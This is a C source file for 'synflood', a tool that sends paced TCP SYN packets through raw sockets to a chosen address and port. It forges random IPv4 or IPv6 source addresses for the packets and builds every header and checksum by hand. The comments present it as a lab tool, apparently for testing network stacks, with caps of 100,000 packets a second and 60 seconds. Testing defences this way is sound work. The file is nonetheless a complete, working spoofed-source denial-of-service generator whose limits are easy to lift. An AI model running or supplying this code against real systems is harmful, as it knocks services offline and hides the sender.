/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* synflood ADDRESS PORT PREFIX PPS SECONDS - SYNs to ADDRESS from random sources in PREFIX (a.b.0.0 or a:b:c:d::), paced.
 *
 * For namespaces of the lab: the sources must lead nowhere. Prints how many were sent. At most 100,000 a second, 60 seconds.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PPS_MAX 100000
#define SECONDS_MAX 60
#define TICK_MS 5
#define TCP_BYTES 20

struct flood {
	bool is_v6;
	uint8_t src[16], dst[16];
	uint16_t port;
	uint64_t seed;
};

static uint32_t rnd(struct flood *f)
{
	f->seed = f->seed * 6364136223846793005ull + 1442695040888963407ull;
	return (uint32_t)(f->seed >> 32);
}

static uint32_t add(uint32_t sum, const uint8_t *p, size_t len)
{
	for (size_t i = 0; i < len; i += 2)
		sum += (uint32_t)p[i] << 8 | p[i + 1];
	return sum;
}

static void fill_tcp(struct flood *f, uint8_t *tcp)
{
	size_t addr_bytes = f->is_v6 ? 16 : 4;
	uint32_t sum, value = rnd(f);
	uint16_t check;

	memset(tcp, 0, TCP_BYTES);
	memcpy(tcp, &value, 2);
	tcp[0] |= 4;
	tcp[2] = (uint8_t)(f->port >> 8);
	tcp[3] = (uint8_t)f->port;
	value = rnd(f);
	memcpy(tcp + 4, &value, 4);
	tcp[12] = TCP_BYTES / 4 << 4;
	tcp[13] = 2;
	tcp[14] = 0xff;
	sum = add(IPPROTO_TCP + TCP_BYTES, f->src, addr_bytes);
	sum = add(add(sum, f->dst, addr_bytes), tcp, TCP_BYTES);
	sum = (sum & 0xffff) + (sum >> 16);
	check = (uint16_t) ~(sum + (sum >> 16));
	tcp[16] = (uint8_t)(check >> 8);
	tcp[17] = (uint8_t)check;
}

/* Returns the packet's length. */
static size_t fill(struct flood *f, uint8_t *p)
{
	uint32_t low = rnd(f);

	memset(p, 0, 40);
	if (f->is_v6) {
		memcpy(f->src + 12, &low, 4);
		p[0] = 0x60;
		p[5] = TCP_BYTES;
		p[6] = IPPROTO_TCP;
		p[7] = 64;
		memcpy(p + 8, f->src, 16);
		memcpy(p + 24, f->dst, 16);
		fill_tcp(f, p + 40);
		return 40 + TCP_BYTES;
	}
	memcpy(f->src + 2, &low, 2);
	p[0] = 0x45;
	p[3] = 20 + TCP_BYTES;
	p[8] = 64;
	p[9] = IPPROTO_TCP;
	memcpy(p + 12, f->src, 4);
	memcpy(p + 16, f->dst, 4); /* the kernel fills in the checksum */
	fill_tcp(f, p + 20);
	return 20 + TCP_BYTES;
}

static uint64_t now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (uint64_t)t.tv_sec * 1000 + (uint64_t)t.tv_nsec / 1000000;
}

static uint64_t run(struct flood *f, int fd, uint64_t pps, uint64_t seconds)
{
	uint64_t begin = now_ms(), end = begin + seconds * 1000, now, sent = 0;
	struct sockaddr_in6 to6 = {.sin6_family = AF_INET6};
	struct sockaddr_in to4 = {.sin_family = AF_INET};
	uint8_t p[64];

	memcpy(&to6.sin6_addr, f->dst, 16);
	memcpy(&to4.sin_addr, f->dst, 4);
	while ((now = now_ms()) < end) {
		while (sent < (now - begin) * pps / 1000) {
			size_t len = fill(f, p);

			(void)sendto(fd, p, len, 0, f->is_v6 ? (void *)&to6 : (void *)&to4,
				     f->is_v6 ? sizeof(to6) : sizeof(to4)); /* one more or less */
			sent++;
		}
		usleep(TICK_MS * 1000);
	}
	return sent;
}

int main(int argc, char **argv)
{
	struct flood f = {.seed = 1};
	long pps, seconds;
	int fd, one = 1;

	if (argc != 6) {
		fprintf(stderr, "usage: synflood ADDRESS PORT PREFIX PPS SECONDS\n");
		return 2;
	}
	f.is_v6 = strchr(argv[1], ':');
	f.port = (uint16_t)atoi(argv[2]);
	pps = atol(argv[4]);
	seconds = atol(argv[5]);
	if (inet_pton(f.is_v6 ? AF_INET6 : AF_INET, argv[1], f.dst) != 1 ||
	    inet_pton(f.is_v6 ? AF_INET6 : AF_INET, argv[3], f.src) != 1 || pps < 1 ||
	    pps > PPS_MAX || seconds < 1 || seconds > SECONDS_MAX) {
		fprintf(stderr,
			"synflood: got %s %s %s %s, want two addresses of one family, 1..%d a "
			"second, 1..%d s\n",
			argv[1], argv[3], argv[4], argv[5], PPS_MAX, SECONDS_MAX);
		return 2;
	}
	fd = socket(f.is_v6 ? AF_INET6 : AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (fd < 0 || (!f.is_v6 && setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)))) {
		fprintf(stderr, "synflood: raw socket: %s\n", strerror(errno));
		return 1;
	}
	printf("%llu\n", (unsigned long long)run(&f, fd, (uint64_t)pps, (uint64_t)seconds));
	close(fd);
	return 0;
}
